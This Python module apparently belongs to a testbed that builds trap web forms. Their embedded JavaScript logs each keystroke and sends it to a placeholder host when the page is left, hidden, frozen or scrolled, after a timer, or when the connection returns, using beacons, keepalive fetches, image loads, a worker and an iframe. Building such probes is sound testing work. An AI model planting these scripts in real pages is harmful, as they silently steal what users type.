"""Forms that keep what was typed and send it when the page is left, hidden or frozen, or a while after its probe is done."""

from testbed.traps.trap import Origin, Probe, Trap, form, trap

_KEEP = "let v='-';document.addEventListener('input',e=>v+=e.target.value,true);"
_ALIVE = "fetch('@d@?v='+v,{keepalive:true})"

_WAYS = {
    "leavehide": (f"{_KEEP}addEventListener('pagehide',()=>{_ALIVE})", "asks with keepalive on pagehide"),
    "leavebeacon": (
        f"{_KEEP}addEventListener('pagehide',()=>navigator.sendBeacon('@d@',v))",
        "sends a beacon on pagehide",
    ),
    "leavebefore": (f"{_KEEP}addEventListener('beforeunload',()=>{_ALIVE})", "asks with keepalive on beforeunload"),
    "leaveunload": (f"{_KEEP}addEventListener('unload',()=>navigator.sendBeacon('@d@',v))", "sends a beacon on unload"),
    "leavehidden": (
        f"{_KEEP}addEventListener('visibilitychange',()=>navigator.sendBeacon('@d@',v))",
        "sends a beacon when it is no longer seen",
    ),
    "leavepicture": (
        f"{_KEEP}addEventListener('pagehide',()=>{{new Image().src='@d@?v='+v}})",
        "loads a picture on pagehide",
    ),
    "leavenavigate": (
        f"{_KEEP}navigation.addEventListener('navigate',()=>{_ALIVE})",
        "asks with keepalive when the Navigation API tells of a way out",
    ),
    "leaveframe": (
        "const i=document.createElement('iframe');i.srcdoc=`<script>addEventListener('pagehide',()=>navigator.sendBeacon('@d@','x'))<\\/script>`;"
        "document.body.append(i)",
        "a frame sends a beacon as the page around it goes",
    ),
    "leavetimer": (
        f"{_KEEP}setTimeout(()=>navigator.sendBeacon('@d@',v),2500)",
        "sends a beacon a while after it was opened",
    ),
    "leavefreeze": (
        f"{_KEEP}document.addEventListener('freeze',()=>navigator.sendBeacon('@d@',v))",
        "sends a beacon when it is frozen",
    ),
}

_CARELESS = {"leavefreeze": ("type", "freeze"), "leavenavigate": ("type", "click #up")}
_UNPROVED = {"leavefreeze": "Chromium freezes no page that is in sight"}

TRAPS: tuple[Trap, ...] = (
    *(
        trap(
            name,
            does,
            form(after="<a id=up href='#f'>Lên đầu trang</a>", script=script),
            careless=_CARELESS.get(name, ("type", "leave")),
            unproved=_UNPROVED.get(name, ""),
        )
        for name, (script, does) in _WAYS.items()
    ),
    trap(
        "leavelater",
        "queues a GET with what is typed for when the page goes",
        form(script=f"{_KEEP}document.addEventListener('input',()=>fetchLater('@d@?v='+v),true)"),
        origin=Origin.SECURE,
        careless=("type", "leave"),
    ),
    trap(
        "lineback",
        "keeps what is typed in an outbox and sends it by GET when the line is back",
        form(script=f"{_KEEP}addEventListener('online',()=>fetch('@d@?v='+v))"),
        probe=Probe.RESILIENCE,
    ),
    trap(
        "lineretry",
        "saves by GET what is typed, again and again until the line is back",
        form(script="setInterval(()=>{const v=o0.value;if(v)fetch('@at@/luu-tam?v='+v).catch(()=>0)},200)"),
        probe=Probe.RESILIENCE,
    ),
    trap(
        "linescroll",
        "sends the fields' values in a picture's address when somebody scrolls",
        form(
            after="<div style='height:3000px'></div>",
            script="addEventListener('scroll',()=>{new Image().src='@d@?'+new URLSearchParams(new FormData(f))})",
        ),
        probe=Probe.RESILIENCE,
        careless=("phrase", "scroll"),
    ),
    trap(
        "linecookie",
        "keeps what is typed in a cookie, and asks for a picture when the line is back",
        form(
            script="document.addEventListener('input',()=>document.cookie='v='+o0.value.replace(/ /g,'-'));addEventListener('online',()=>{new Image().src='@at@/x.png'})"
        ),
        probe=Probe.RESILIENCE,
    ),
    trap(
        "lineworker",
        "a worker keeps what is typed and asks until an answer comes",
        form(
            script="const w=new Worker(URL.createObjectURL(new Blob([`onmessage=e=>setInterval(()=>fetch('@d@?v='+e.data).catch(()=>0),200)`])));"
            "document.addEventListener('input',()=>w.postMessage(o0.value),true)"
        ),
        probe=Probe.RESILIENCE,
    ),
    trap(
        "lineform",
        "submits its form by GET as soon as the line is back",
        form(attributes="action='@d@#x'", script="addEventListener('online',()=>f.submit())"),
        probe=Probe.RESILIENCE,
    ),
)
